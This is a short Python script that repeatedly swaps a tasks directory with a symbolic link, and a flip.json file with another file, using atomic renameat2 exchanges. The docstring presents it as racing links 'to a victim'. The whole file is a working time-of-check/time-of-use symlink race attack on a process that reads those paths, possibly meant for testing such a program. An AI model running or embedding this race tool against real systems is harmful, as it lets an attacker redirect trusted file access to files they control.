"""Exchange names for links to a victim as fast as possible: `python watch_flipper.py TASKS LINK`.

TASKS is a tasks directory and LINK a symbolic link beside it. In TASKS, `flip.json` is exchanged
for `aside`, too. Runs until stdin is closed, then restores the directory and prints the number of
exchanges.
"""

from __future__ import annotations

import ctypes
import os
import select
import sys

RENAME_EXCHANGE = 2
AT_FDCWD = -100
renameat2 = ctypes.CDLL(None, use_errno=True).renameat2


def exchange(one: str | os.PathLike[str], other: str | os.PathLike[str]) -> None:
    """Exchange two names atomically, unless one of them does not exist."""
    renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE)


def main(tasks: str, link: str) -> None:
    """Exchange until stdin is closed."""
    directory = os.open(tasks, os.O_RDONLY | os.O_DIRECTORY)
    names = AT_FDCWD, tasks.encode(), AT_FDCWD, link.encode(), RENAME_EXCHANGE
    files = directory, b"flip.json", directory, b"aside", RENAME_EXCHANGE
    count = 0
    while not select.select([0], [], [], 0)[0]:
        for _ in range(500):
            count += sum(renameat2(*arguments) == 0 for arguments in (names, files))
    if os.path.islink(tasks):  # noqa: PTH114 - pathlib loads slowly
        renameat2(*names)
    print(count)


if __name__ == "__main__":
    main(*sys.argv[1:])
